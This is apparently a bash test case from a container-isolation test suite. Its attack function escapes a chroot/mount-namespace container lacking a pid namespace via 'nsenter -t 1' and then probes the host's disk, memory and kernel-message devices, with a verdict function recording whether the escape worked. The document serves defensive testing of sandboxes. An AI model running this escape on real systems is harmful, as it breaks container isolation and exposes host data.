# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash disable=SC2034

WHAT='out of a container in the machine, by its lack of a pid namespace, and on to the host'"'"'s disk, memory and kernel messages'
OPTIONS_nbox=(--nesting) OPTIONS_lxc=('lxc.include = /usr/share/lxc/config/nesting.conf')
NEEDS_USERS='devices are closed by units, which a plain host does not have'

setup() {
        bring nodes
        findmnt -no MAJ:MIN -T "$MACHINES" | tr ':' ' ' >"$TREE/escape/disk"
}

attack() {
        # The container: a root and mounts of its own, as root of the machine, and the machine's processes in sight.
        mkdir -p /escape/box/bin /escape/box/proc
        cp /bin/busybox /escape/box/bin/
        cat >/escape/box/break <<'BREAK'
/bin/busybox mount -t proc proc /proc
exec /bin/busybox nsenter -t 1 -m /bin/busybox sh /escape/out-of-the-box
BREAK
        cat >/escape/out-of-the-box <<'OUT'
[ -e /escape/disk ] && echo "out of the container"
/escape/nodes $(cat /escape/disk)
OUT
        /bin/busybox unshare -m /bin/busybox chroot /escape/box /bin/busybox sh /break
        /bin/busybox unshare -Urm /bin/busybox chroot /escape/box /bin/busybox sh /break
}

verdict() {
        printed '^out of the container' || fail "the container holds: $(cat "$OUT")"
        if printed ' works$'; then
                works "$(sed -n 's/ works$//p' "$OUT" | sort -u | paste -sd ' ')"
        else
                blocked "in the machine, and no further: $(sed -n 's/^disk: //p' "$OUT" | sort -u | paste -sd,)"
        fi
}
